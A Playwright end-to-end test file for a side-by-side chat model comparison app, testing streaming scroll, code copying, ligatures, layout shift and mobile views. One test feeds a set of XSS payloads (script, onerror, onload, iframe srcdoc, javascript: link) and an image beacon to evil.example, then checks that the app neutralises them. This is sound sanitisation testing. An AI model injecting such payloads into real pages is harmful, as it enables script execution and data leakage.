import { eventually } from '@tandem/testing';
import { type Locator, type Page } from 'playwright-core';
import { type Echo, startEcho } from './start-echo';
import { usePage } from './use-page';
import { writeAtOnce } from './write-at-once';

const lines = (count: number): string => Array.from({ length: count }, (_, n) => `line${n}\n\n`).join('');
const LINES = lines(260);

/** What is answered does not end before it is stopped. */
const ENDLESS = 'Line after line, please.';
const answerTo = (message: string): string => (message === ENDLESS ? lines(20_000) : message);

/** Blocks of every height, many times a pane's. */
const LONG = Array.from({ length: 20 }, (_, n) => `## Part ${n}\n\nA sentence, ${'and another, '.repeat(9)}and the last.\n\n- one\n- two\n\n`).join('');

/** Fits into a pane, so that nothing has to scroll. */
const FITTING = LINES.slice(0, 90);

const HOSTILE = `Look: <script>document.title = 'owned'</script>
<img src=x onerror="document.title = 'owned'"> <svg onload="document.title = 'owned'"></svg>

<iframe srcdoc="<script>parent.document.title = 'owned'</script>"></iframe>

<style>body { display: none }</style>

![pixel](https://evil.example/?q=secret)

[click](javascript:document.title='owned') and [fine](https://example.org/)

\`\`\`html
<img src=x onerror="document.title = 'owned'">
\`\`\`
`;

/** Where the scroller stands once it does not follow what grows: it stayed there while the text grew three times. */
function untilLetGo(scroller: Locator): Promise<number> {
  return scroller.evaluate(
    (box) =>
      new Promise<number>((resolve) => {
        let [top, height, growths] = [box.scrollTop, box.scrollHeight, 0];
        const look = (): void => {
          if (box.scrollTop !== top) [top, height, growths] = [box.scrollTop, box.scrollHeight, 0];
          else if (box.scrollHeight > height) [height, growths] = [box.scrollHeight, growths + 1];
          if (growths === 3) return resolve(top);
          requestAnimationFrame(() => requestAnimationFrame(look));
        };
        look();
      }),
  );
}

/** Resolves as soon as the page says it, for however short. */
function untilSaid(page: Page, words: string): Promise<void> {
  return page.evaluate(
    (said) =>
      new Promise<void>((resolve) =>
        new MutationObserver(() => document.body.textContent?.includes(said) && resolve()).observe(document.body, {
          subtree: true,
          childList: true,
          characterData: true,
        }),
      ),
    words,
  );
}

describe('reading answers', () => {
  let echo: Echo;
  const { open, openChat } = usePage(async () => {
    echo = await startEcho({ tokensPerSecond: 150, answerTo });
    return {
      BASELINE_MODELS: JSON.stringify([{ name: 'Echo', endpoint: echo.endpoint }]),
      TWODELTA_MODELS: JSON.stringify([{ name: 'Other echo', endpoint: echo.endpoint }]),
    };
  });
  afterAll(() => echo.close());

  it('follows the end, lets go when the reader scrolls up, and holds again on request', async () => {
    const compare = await open();
    const { page, scroller } = compare;
    const untilAtEnd = async (): Promise<void> => {
      const box = await scroller.elementHandle();
      await page.waitForFunction((it) => it && it.scrollHeight - it.clientHeight - it.scrollTop < 64, box);
    };
    await compare.ask(ENDLESS);
    await compare.baseline.untilLonger(400);
    await untilAtEnd();
    await scroller.hover();
    await page.mouse.wheel(0, -300);
    const top = await untilLetGo(scroller);
    await compare.baseline.untilLonger((await compare.baseline.text()).length + 100);
    expect(await scroller.evaluate((box) => box.scrollTop)).toBeCloseTo(top, -1);
    await page.getByRole('button', { name: /New output/ }).click();
    await untilAtEnd();
    await page.getByRole('button', { name: 'Stop all' }).click();
    await compare.goOn('Without this turn');
    await compare.ask('short');
    await compare.untilIdle();
    await untilAtEnd();
  });

  it('stays at the end while the keyboard is in a head or a foot', async () => {
    const compare = await open();
    const { page, baseline, derivative } = compare;
    await compare.ask(ENDLESS);
    await baseline.untilLonger(600);
    for (const control of [baseline.head.getByRole('button', { name: /^Baseline model/ }), derivative.button('Stop')]) {
      await control.focus();
      await baseline.untilLonger((await baseline.text()).length + 200);
      expect(await page.getByRole('button', { name: /New output/ }).count()).toBe(0);
    }
    await page.getByRole('button', { name: 'Stop all' }).click();
  });

  it('does nothing that the text says', async () => {
    const compare = await open();
    await compare.ask(HOSTILE);
    await compare.untilIdle();
    const { page, derivative } = compare;
    // the last of it
    await derivative.answer.getByRole('button', { name: 'Copy code' }).waitFor();
    expect(await page.title()).not.toContain('owned');
    expect(await derivative.answer.locator('script, img, svg, iframe, style').count()).toBe(0);
    expect(await derivative.text()).toContain('<script>');
    expect(
      await derivative.answer
        .locator('a')
        .evaluateAll((links) => links.map((link) => [link.textContent, (link as HTMLAnchorElement).href, link.getAttribute('rel')])),
    ).toEqual([
      ['image: pixel', 'https://evil.example/?q=secret', 'noopener noreferrer'],
      ['fine', 'https://example.org/', 'noopener noreferrer'],
    ]);
  });

  it('shows code in its colours, to be copied', async () => {
    const compare = await open({ permissions: ['clipboard-read', 'clipboard-write'] });
    await compare.ask('```js\nconst answer = 42;\n```');
    await compare.untilIdle();
    await compare.derivative.answer.locator('.hljs-keyword', { hasText: 'const' }).waitFor();
    await compare.derivative.answer.getByRole('button', { name: 'Copy code' }).click();
    await eventually(async () => expect(await compare.page.evaluate(() => navigator.clipboard.readText())).toBe('const answer = 42;'));
  });

  it('draws what was written: no arrow for two characters', async () => {
    const compare = await open();
    await compare.ask('# a -> b\n\na -> b `a -> b`\n\n| a -> b |\n|---|\n| 1 |\n\n```js\na -> b // c\n```');
    await compare.untilIdle();
    await compare.derivative.answer.getByRole('button', { name: 'Copy code' }).waitFor();
    const parts = compare.derivative.answer.locator('h3, p, code, pre, td');
    expect(new Set(await parts.evaluateAll((elements) => elements.map((element) => getComputedStyle(element).fontVariantLigatures)))).toEqual(
      new Set(['none']),
    );
  });

  it('copies an answer as the model wrote it', async () => {
    const compare = await open({ permissions: ['clipboard-read', 'clipboard-write'] });
    await compare.ask('**bold** and `code` 🦙');
    await compare.untilIdle();
    const told = untilSaid(compare.page, 'Answer copied');
    await compare.baseline.button('Copy').click();
    await told;
    expect(await compare.page.evaluate(() => navigator.clipboard.readText())).toBe('**bold** and `code` 🦙');
  });

  it.each([
    ['no-preference', 'blink'],
    ['reduce', 'none'],
  ] as const)('lets the cursor blink under prefers-reduced-motion: %s as %s', async (reducedMotion, animation) => {
    const compare = await open({ reducedMotion });
    await compare.ask(ENDLESS);
    const cursor = compare.baseline.cell.locator('.cursor');
    await cursor.waitFor();
    expect(await cursor.evaluate((element) => getComputedStyle(element).animationName.replace(/^.*(blink).*$/, '$1'))).toBe(animation);
    await compare.page.getByRole('button', { name: 'Stop all' }).click();
  });

  const SIZES = [
    ['fits', FITTING],
    ['scrolls', LONG],
  ] as const;

  /** Adds up, from the first words of all answers on, by how much what is seen is moved by anything but the reader; the function it gives tells it. */
  const watchShift = async (page: Page): Promise<() => Promise<number>> => {
    const seen = await page.evaluateHandle(() => {
      const sum = { shift: 0 };
      let beganAt = Number.POSITIVE_INFINITY;
      const look = (): void => {
        const answers = [...document.querySelectorAll('.prose')];
        const haveText = answers.length > 0 && answers.every((answer) => answer.querySelector('.block:not(.plain)')?.textContent);
        // from the frame behind their first ones on: those in which they appear in place of what stood there
        requestAnimationFrame(haveText ? () => (beganAt = performance.now()) : look);
      };
      look();
      new PerformanceObserver((list) => {
        for (const entry of list.getEntries() as (PerformanceEntry & { value: number; hadRecentInput: boolean })[]) {
          if (!entry.hadRecentInput && entry.startTime > beganAt) sum.shift += entry.value;
        }
      }).observe({ type: 'layout-shift', buffered: false });
      return sum;
    });
    return () => seen.evaluate(({ shift }) => shift);
  };

  it.each(SIZES)('moves nothing while an answer streams that %s', async (_, text) => {
    const compare = await open();
    const { page } = compare;
    await writeAtOnce(compare.composer, text);
    const shift = await watchShift(page);
    await page.getByRole('button', { name: 'Send' }).click();
    await compare.baseline.untilLonger();
    await compare.untilIdle();
    expect(await shift()).toBeLessThan(0.01);
  });

  it.each(SIZES)('moves nothing on a phone while an answer streams that %s, nor when the spine comes', async (_, text) => {
    const compare = await open({ viewport: { width: 360, height: 740 }, hasTouch: true, isMobile: true });
    await writeAtOnce(compare.composer, text);
    const shift = await watchShift(compare.page);
    await compare.page.getByRole('button', { name: 'Send' }).click();
    await compare.untilIdle();
    await compare.page.locator('tandem-spine').waitFor();
    await compare.page.evaluate(() => new Promise((then) => requestAnimationFrame(() => requestAnimationFrame(then))));
    expect(await shift()).toBeLessThan(0.01);
  });

  it.each(SIZES)('moves nothing in a chat while an answer streams that %s', async (_, text) => {
    const chat = await openChat();
    await writeAtOnce(chat.composer, text);
    const shift = await watchShift(chat.page);
    await chat.button('Send').click();
    await chat.untilState(/^done/);
    expect(await shift()).toBeLessThan(0.01);
  });

  it('shows one side at a time on a phone, with the other a swipe or a tab away', async () => {
    const compare = await open({ viewport: { width: 360, height: 740 }, hasTouch: true, isMobile: true });
    const { page, baseline, derivative } = compare;
    await compare.ask('one two three');
    await compare.untilIdle();
    expect([await baseline.cell.isVisible(), await derivative.cell.isVisible()]).toEqual([true, false]);
    await page.getByRole('tab', { name: /Two Delta/ }).click();
    await derivative.cell.waitFor();
    expect(await baseline.cell.isVisible()).toBe(false);
    await page.keyboard.press('ArrowLeft');
    await baseline.cell.waitFor();
    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBe(360);
    await page.getByRole('button', { name: 'More', exact: true }).click();
    await page.getByRole('menuitem', { name: 'Stack by turn' }).click();
    await Promise.all([baseline.cell.waitFor(), derivative.cell.waitFor()]);
    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBe(360);
  });
});
